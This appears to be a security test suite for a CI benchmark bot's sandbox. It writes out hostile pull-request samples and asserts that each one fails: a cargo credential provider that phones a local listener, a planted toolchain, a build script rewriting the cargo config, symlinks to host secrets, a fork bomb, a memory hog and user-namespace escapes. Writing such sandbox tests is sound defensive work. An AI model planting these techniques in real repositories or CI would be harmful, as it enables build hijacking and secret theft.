"""Issue 18, the fetch and the sandbox's limits, attacked as a pull request would: every attack here must fail.

Real git repositories of the fixture workspace, real cargo in the real bubblewrap sandbox, a real listener on the
host's 127.0.0.1, real forks and allocations inside the sandbox. Nothing here needs the internet: a fetch that
would need it fails, and the test asserts how.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from runners.exec.sandbox import FIXED_BINARY, Limits, Run, Sandbox
from runners.schema.report import ExceptionRecord
from runners.stages.build import CARGO_HOME_CONFIG_KEY, BuildError, build_artifact
from runners.stages.exceptions import ExceptionFileError, load_records, verify_records
from runners.stages.revisions import worktree

from runners.demo import commit_change, demo_config, init_fixture_repo

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None or shutil.which("pasta") is None,
                                reason="needs bubblewrap and pasta (packages bubblewrap, passt)")

BUILD_RS = "lib/bench/build.rs"
BENCH_MANIFEST = "lib/bench/Cargo.toml"


class Listener:
    """A real TCP listener on the host; every connection (and its first bytes) is recorded."""

    def __init__(self, host: str = "127.0.0.1") -> None:
        self.server = socket.create_server((host, 0))
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(5)
                try:
                    self.received.append(connection.recv(4096) or b"<connected>")
                except OSError:
                    self.received.append(b"<connected>")

    def close(self) -> None:
        self.server.close()


@pytest.fixture()
def listener() -> Iterator[Listener]:
    served = Listener()
    yield served
    served.close()


@pytest.fixture()
def repo(tmp_path: Path) -> Path:
    path = tmp_path / "repo"
    init_fixture_repo(path)
    return path


def depend_on(repo: Path, name: str, source: str, manifest_spec: str) -> dict[str, str]:
    """Files that make the bench crate depend on `name` from `source`, pinned in Cargo.lock (so fetch runs)."""
    manifest = (repo / BENCH_MANIFEST).read_text(encoding="utf-8")
    manifest = manifest.replace("[features]", f"[dependencies]\n{name} = {manifest_spec}\n\n[features]")
    lock = (repo / "Cargo.lock").read_text(encoding="utf-8")
    lock = lock.replace('name = "dynamo-bench"\nversion = "0.1.0"\n',
                        f'name = "dynamo-bench"\nversion = "0.1.0"\ndependencies = [\n "{name}",\n]\n')
    lock += f'\n[[package]]\nname = "{name}"\nversion = "1.0.0"\nsource = "{source}"\nchecksum = "{"0" * 64}"\n'
    return {BENCH_MANIFEST: manifest, "Cargo.lock": lock}


def commit_symlink(repo: Path, link: str, target: Path) -> str:
    path = repo / link
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)
    subprocess.run(["git", "-C", str(repo), "add", link], check=True)
    subprocess.run(["git", "-C", str(repo), "commit", "-q", "-m", f"link {link}"], check=True)
    return subprocess.run(["git", "-C", str(repo), "rev-parse", "HEAD"], capture_output=True, text=True,
                          check=True).stdout.strip()


def build(repo: Path, sha: str, tmp_path: Path) -> BuildError | None:
    """Build `sha` in its own worktree as a campaign does; the BuildError it stops with, or None."""
    with worktree(repo, sha, tmp_path / "tree-candidate") as tree:
        try:
            build_artifact(tree, "candidate", sha, demo_config().build, tmp_path / "bin")
        except BuildError as exc:
            return exc
    return None


# --- the fetch ------------------------------------------------------------------------------------------------


def _cmdline(pid: str) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().decode()
    except OSError:
        return ""


def pastas_under(tmp: Path) -> set[str]:
    """The pastas of networked starts whose temporary directory is `tmp`, never another test's (the suite's
    other workers build, and so fetch, meanwhile)."""
    found = subprocess.run(["pgrep", "-f", "^pasta .*kvp-netns-"], capture_output=True, text=True).stdout.split()
    return {pid for pid in found if f"{tmp}/kvp-netns-" in _cmdline(pid)}


@pytest.fixture()
def start_tmp(tmp_path: Path) -> Path:
    """The temporary directory of a networked start under test: its namespace holder, and so its pasta's argv,
    lie under it, which tells this test's pasta from another worker's."""
    own = tmp_path / "start-tmp"
    own.mkdir()
    return own


def test_credential_provider_exfiltration_runs_nothing_and_reaches_no_host_listener(
        repo: Path, listener: Listener, tmp_path: Path) -> None:
    index = f"sparse+http://127.0.0.1:{listener.port}/index/"
    provider = (f"import socket; socket.create_connection(('127.0.0.1', {listener.port})).sendall(b'PROVIDER-RAN'); "
                "print('stolen')")
    files = depend_on(repo, "exfil", index, '{ version = "1", registry = "x" }')
    files[".cargo/config.toml"] = (f'[registries.x]\nindex = "{index}"\n'
                                   f'credential-provider = ["cargo:token-from-stdout", "python3", "-c", '
                                   f'{json.dumps(provider)}]\n')
    sha = commit_change(repo, "a dependency from a registry whose credential provider phones home", files=files)
    stopped = build(repo, sha, tmp_path)
    assert stopped is not None and str(stopped).startswith("cargo fetch --locked failed for candidate")
    assert "\n" not in str(stopped)
    assert listener.received == [], "neither cargo nor the PR's credential provider reached the host's loopback"


def test_fetch_network_reaches_neither_host_loopback_nor_its_addresses_nor_private_ranges(
        start_tmp: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Connects only to this machine's own addresses (a real listener on all of them); for the private, link-local
    and metadata ranges it asks the namespace's routing table (`ip route get`), so no packet is ever aimed off the
    machine even if the fence were broken."""
    monkeypatch.setattr(tempfile, "tempdir", str(start_tmp))
    wide = Listener("0.0.0.0")
    try:
        addresses = json.loads(subprocess.run(["ip", "-4", "-j", "addr", "show"], capture_output=True, text=True,
                                              check=True).stdout)
        own = sorted({info["local"] for link in addresses for info in link.get("addr_info", [])} | {"127.0.0.1"})
        ranges = ["169.254.169.254", "10.0.0.1", "172.16.0.1", "192.168.0.1", "100.64.0.1"]
        probe = ("import socket, subprocess, sys\n"
                 "port, own, ranges = int(sys.argv[1]), sys.argv[2].split(','), sys.argv[3].split(',')\n"
                 "for host in own:\n"
                 "    s = socket.socket(); s.settimeout(3)\n"
                 "    try:\n"
                 "        s.connect((host, port)); print(host, 'REACHED')\n"
                 "    except OSError as error:\n"
                 "        print(host, error.errno)\n"
                 "for host in ranges:\n"
                 "    route = subprocess.run(['ip', 'route', 'get', host], capture_output=True, text=True)\n"
                 "    said = route.stderr.lower()\n"
                 "    blocked = route.returncode != 0 and ('no route to host' in said or 'unreachable' in said)\n"
                 "    print(host, 'unreachable' if blocked\n"
                 "          else 'ROUTED ' + route.stdout.strip().replace(' ', '_'))\n")
        completed = Sandbox().run(Run(argv=["python3", "-c", probe, str(wide.port), ",".join(own), ",".join(ranges)],
                                      network=True, proc=True), timeout=120)
    finally:
        wide.close()
    assert completed.returncode == 0, completed.stderr
    outcomes = dict(line.split(" ", 1) for line in completed.stdout.splitlines())
    assert sorted(outcomes) == sorted(own + ranges), completed.stdout
    assert "REACHED" not in outcomes.values(), outcomes
    assert all(outcomes[host] == "unreachable" for host in ranges), outcomes
    assert wide.received == []
    assert pastas_under(start_tmp) == set(), "this start's pasta is gone"


def test_source_replacement_in_the_pr_config_is_not_read_by_the_fetch(repo: Path, tmp_path: Path) -> None:
    files = depend_on(repo, "replaced", "registry+https://github.com/rust-lang/crates.io-index", '"1"')
    files[".cargo/config.toml"] = ('[source.crates-io]\nreplace-with = "planted"\n\n'
                                   '[source.planted]\ndirectory = "planted-vendor-dir"\n')
    sha = commit_change(repo, "replace crates.io with a source the PR chose", files=files)
    stopped = build(repo, sha, tmp_path)
    assert stopped is not None and str(stopped).startswith("cargo fetch --locked failed for candidate")
    assert "crates.io" in stopped.output_tail, "cargo went to the real registry, not the PR's replacement"
    assert "planted" not in stopped.output_tail


def test_a_toolchain_file_path_override_never_runs_during_the_fetch(repo: Path, tmp_path: Path) -> None:
    tree = tmp_path / "tree-candidate"
    fake = "#!/bin/sh\necho PLANTED-TOOLCHAIN-RAN \"$@\" >&2\nexit 3\n"
    sha = commit_change(repo, "a toolchain of the PR's own", files={
        "rust-toolchain.toml": f'[toolchain]\npath = "{tree}/planted-toolchain"\n',
        "planted-toolchain/bin/cargo": fake, "planted-toolchain/bin/rustc": fake})
    subprocess.run(["git", "-C", str(repo), "update-index", "--chmod=+x", "planted-toolchain/bin/cargo",
                    "planted-toolchain/bin/rustc"], check=True)
    subprocess.run(["git", "-C", str(repo), "commit", "-q", "-m", "executable"], check=True)
    sha = subprocess.run(["git", "-C", str(repo), "rev-parse", "HEAD"], capture_output=True, text=True,
                         check=True).stdout.strip()
    stopped = build(repo, sha, tmp_path)
    # The fetch (network up) used the bot's toolchain and passed; the offline build then ran the PR's own cargo,
    # which is allowed there and stops the build with its output kept apart.
    assert stopped is not None and "fetch" not in str(stopped)
    assert str(stopped).startswith("cargo metadata failed for candidate")
    assert "PLANTED-TOOLCHAIN-RAN metadata" in stopped.output_tail
    assert "PLANTED-TOOLCHAIN-RAN fetch" not in stopped.output_tail


def test_a_build_writing_the_cargo_home_config_is_refused(repo: Path, tmp_path: Path) -> None:
    sha = commit_change(repo, "a build script that configures later cargo runs", files={BUILD_RS: """
fn main() {
    let home = std::env::var("CARGO_HOME").unwrap();
    let config = format!("{home}/config.toml");
    // The bot's file is root-owned and read-only, but the directory is the sandbox's: replace it.
    std::fs::remove_file(&config).unwrap();
    std::fs::write(&config, "[build]\\nrustc-wrapper = \\"/bin/true\\"\\n").unwrap();
}
"""})
    stopped = build(repo, sha, tmp_path)
    assert stopped is not None
    assert "changed its cargo home's configuration (config.toml)" in str(stopped)


def test_the_bot_cargo_home_config_is_recorded_and_committed_symlinks_are_never_followed(
        repo: Path, tmp_path: Path) -> None:
    root_only = tmp_path / "root-only"
    root_only.mkdir(mode=0o700)
    (root_only / "config.toml").write_text('[build]\nrustflags = ["--cfg", "kvp_root_only_marker"]\n',
                                           encoding="utf-8")
    sha = commit_symlink(repo, ".cargo", root_only)
    with worktree(repo, sha, tmp_path / "tree-candidate") as tree:
        artifact = build_artifact(tree, "candidate", sha, demo_config().build, tmp_path / "bin")
    assert artifact.settings is not None
    assert set(artifact.settings.cargo_config_sha256) == {CARGO_HOME_CONFIG_KEY}
    assert artifact.settings.config_rustflags == {}
    assert "kvp_root_only_marker" not in artifact.model_dump_json()


# --- exception records ----------------------------------------------------------------------------------------


RECORD = """[[exception]]
id = "{id}"
pointers = [{pointers}]
baseline_behavior = "b"
candidate_behavior = "c"
source_of_truth = "s"
why_intended = "w"
compatibility_impact = "i"
disposition = "d"
regression_test = ["{{binary}}"]
"""


def test_an_exceptions_file_linked_to_a_host_toml_is_never_read(repo: Path, tmp_path: Path) -> None:
    host = tmp_path / "host-settings.toml"
    host.write_text("[kvp_host_secret_table]\nwebhook_secret_key = 1\n", encoding="utf-8")
    sha = commit_symlink(repo, ".kv-parity/exceptions.toml", host)
    assert load_records(repo, sha) == []


@pytest.mark.parametrize("pointer", ["", "/", "/*", "/**", "/**/decode_admit_ms"])
def test_a_record_whose_pointers_cover_everything_is_refused(repo: Path, pointer: str) -> None:
    text = RECORD.format(id="everything", pointers=f'"/summary/x", {json.dumps(pointer)}')
    sha = commit_change(repo, "excuse everything", files={".kv-parity/exceptions.toml": text})
    with pytest.raises(ExceptionFileError) as refused:
        load_records(repo, sha)
    assert "'everything'" in str(refused.value) and "covers the whole report" in str(refused.value)


def test_regression_tests_see_both_binaries_at_one_fixed_path(tmp_path: Path) -> None:
    binaries = {"baseline": tmp_path / "baseline-0123456789ab-bench", "candidate": tmp_path / "candidate-ba98-bench"}
    shutil.copyfile("/usr/bin/false", binaries["baseline"])
    shutil.copyfile("/usr/bin/true", binaries["candidate"])
    for binary in binaries.values():
        binary.chmod(0o555)
    trace = tmp_path / "trace.jsonl"
    trace.write_text("{}\n", encoding="utf-8")
    tree = tmp_path / "tree"
    tree.mkdir()
    record = ExceptionRecord(id="x", pointers=["/summary/x"], baseline_behavior="b", candidate_behavior="c",
                             source_of_truth="s", why_intended="w", compatibility_impact="i", disposition="d",
                             regression_test=["{binary}"])
    outcome, = verify_records([record], tree, binaries, trace)  # type: ignore[arg-type]
    assert outcome.verified, outcome.reason
    assert outcome.runs[0].argv == outcome.runs[1].argv == [str(FIXED_BINARY)]


# --- the sandbox's limits --------------------------------------------------------------------------------------


FORK_BOMB = """
import os, signal
children = 0
try:
    while children < 10000:
        pid = os.fork()
        if pid == 0:
            signal.pause()
            os._exit(0)
        children += 1
except BlockingIOError:
    print("refused after", children)
"""


def test_a_fork_bomb_is_bounded_by_the_process_limit() -> None:
    limit = 24
    completed = Sandbox(limits=Limits(processes=limit)).run(Run(argv=["python3", "-c", FORK_BOMB], proc=True),
                                                          timeout=300)
    assert completed.returncode == 0, completed.stderr
    refused = completed.stdout.split()
    assert refused[:2] == ["refused", "after"] and int(refused[2]) < limit


def test_a_memory_hog_is_bounded_by_the_memory_limit() -> None:
    completed = Sandbox(limits=Limits(memory_bytes=512 << 20)).run(
        Run(argv=["python3", "-c", "block = bytearray(1 << 30)"]), timeout=120)
    assert completed.returncode != 0 and "MemoryError" in completed.stderr


def test_no_nested_user_namespace_in_any_sandboxed_start() -> None:
    completed = Sandbox().run(Run(argv=["unshare", "-Urn", "id", "-u"], proc=True), timeout=60)
    assert completed.returncode != 0
    assert "Operation not permitted" in completed.stderr and completed.stdout == ""
    record = Sandbox().record()
    assert record.user_namespaces is False and record.inherited_fds is False
    assert record.process_limit == Limits().processes and record.memory_limit_bytes == Limits().memory_bytes
    assert "pasta" in record.fetch_network


def spawn_like_the_sampler(run: Run) -> tuple[int, str]:
    """posix_spawn, as the perf sampler starts a sample: it passes every inheritable descriptor on."""
    argv, env = Sandbox().command(run)
    read_end, write_end = os.pipe()
    pid = os.posix_spawnp(argv[0], argv, env, file_actions=[(os.POSIX_SPAWN_DUP2, write_end, 1)])
    os.close(write_end)
    with os.fdopen(read_end) as output:
        printed = output.read()
    _, status = os.waitpid(pid, 0)
    return os.waitstatus_to_exitcode(status), printed


def test_inherited_descriptors_never_reach_the_sandboxed_process(tmp_path: Path) -> None:
    """The shim closes what a spawn passed on; a sample's own spawn closes it in the child (test_perf's
    test_the_harness_inherits_no_descriptor_but_stdio drives the real sampler)."""
    leaked = os.open(tmp_path / "secret", os.O_WRONLY | os.O_CREAT, 0o600)
    os.set_inheritable(leaked, True)
    listing = "import os; print(sorted(os.listdir('/proc/self/fd')))"
    try:
        code, printed = spawn_like_the_sampler(Run(argv=["python3", "-c", listing], proc=True))
    finally:
        os.close(leaked)
    assert code == 0
    assert printed.strip() == "['0', '1', '2', '3']", "stdio and listdir's own descriptor only"


def test_a_start_through_run_inherits_no_descriptor_not_even_its_filter(tmp_path: Path) -> None:
    """`Sandbox.run` loads the filter natively from a descriptor of the start's own: bwrap consumes it, and
    nothing the bot had open (inheritable or not) reaches the command."""
    leaked = os.open(tmp_path / "secret", os.O_WRONLY | os.O_CREAT, 0o600)
    os.set_inheritable(leaked, True)
    listing = "import os; print(sorted(os.listdir('/proc/self/fd')))"
    try:
        completed = Sandbox().run(Run(argv=["python3", "-c", listing], proc=True), timeout=60)
    finally:
        os.close(leaked)
    assert completed.returncode == 0, completed.stderr
    assert completed.stdout.strip() == "['0', '1', '2', '3']", "stdio and listdir's own descriptor only"


def test_starts_from_several_threads_each_load_the_whole_filter() -> None:
    """The two arms build in two threads: each start reads its own descriptor from offset 0, so none gets a
    partial program (bwrap would refuse it) and every one refuses a nested user namespace."""
    probe = Run(argv=["python3", "-c", "import subprocess; print(subprocess.run(['unshare', '-Urn', 'true'], "
                                       "capture_output=True).returncode)"], proc=True)
    with ThreadPoolExecutor(max_workers=4) as pool:
        results = list(pool.map(lambda _: Sandbox().run(probe, timeout=120), range(8)))
    assert [(r.returncode, r.stdout.strip()) for r in results] == [(0, "1")] * 8, [r.stderr for r in results]


def test_a_sampled_start_gets_the_same_limits_and_no_user_namespaces() -> None:
    """Samples skip the interpreter shim (bwrap --seccomp, prlimit): the same three guarantees, natively."""
    probe = ("import resource, subprocess\n"
             "print(resource.getrlimit(resource.RLIMIT_NPROC)[1], resource.getrlimit(resource.RLIMIT_AS)[1])\n"
             "print(subprocess.run(['unshare', '-Urn', 'true'], capture_output=True).returncode)\n")
    for _ in range(2):  # the filter's memfd is rewound for every start
        code, printed = spawn_like_the_sampler(Run(argv=["python3", "-c", probe], proc=True, as_pid_1=True))
        assert code == 0
        assert printed.split() == [str(Limits().processes), str(Limits().memory_bytes), "1"]


def test_a_fetch_whose_bot_is_killed_leaves_no_pasta_behind(start_tmp: Path) -> None:
    """SIGKILL of the process running a networked start (scancel, a cancelled runner) must not leave the fetch's
    pasta daemon or its namespace's bind mount behind: the watchdog ends both when the bot's pipe closes. The kill
    lands as soon as a pasta is seen, which may be pasta's parent before its daemon exists: no pasta of this
    start may remain, not only the ones first seen."""
    fetcher = subprocess.Popen([sys.executable, "-c", (
        "from runners.exec.sandbox import Run, Sandbox\n"
        "Sandbox().run(Run(argv=['python3', '-c', 'import time; time.sleep(120)'], network=True, proc=True))\n")],
        env={**os.environ, "TMPDIR": str(start_tmp)})
    try:
        deadline = time.monotonic() + 60
        while not (started := pastas_under(start_tmp)):
            assert fetcher.poll() is None, "the networked start ended before its pasta was seen"
            assert time.monotonic() < deadline, "no pasta started for the networked run"
            os.sched_yield()
        holders = {Path(word).parent for pid in started for word in _cmdline(pid).split("\0")
                   if word.endswith("/pasta.pid")}
        assert holders, "the pasta of this start names its holder directory"
        fetcher.kill()
        fetcher.wait()
        deadline = time.monotonic() + 30
        while pastas_under(start_tmp):
            assert time.monotonic() < deadline, f"pasta {pastas_under(start_tmp)} outlived the killed bot"
            os.sched_yield()
        deadline = time.monotonic() + 30
        while any(holder.exists() for holder in holders):
            assert time.monotonic() < deadline, f"{holders} outlived the killed bot"
            os.sched_yield()
    finally:
        if fetcher.poll() is None:
            fetcher.kill()
            fetcher.wait()
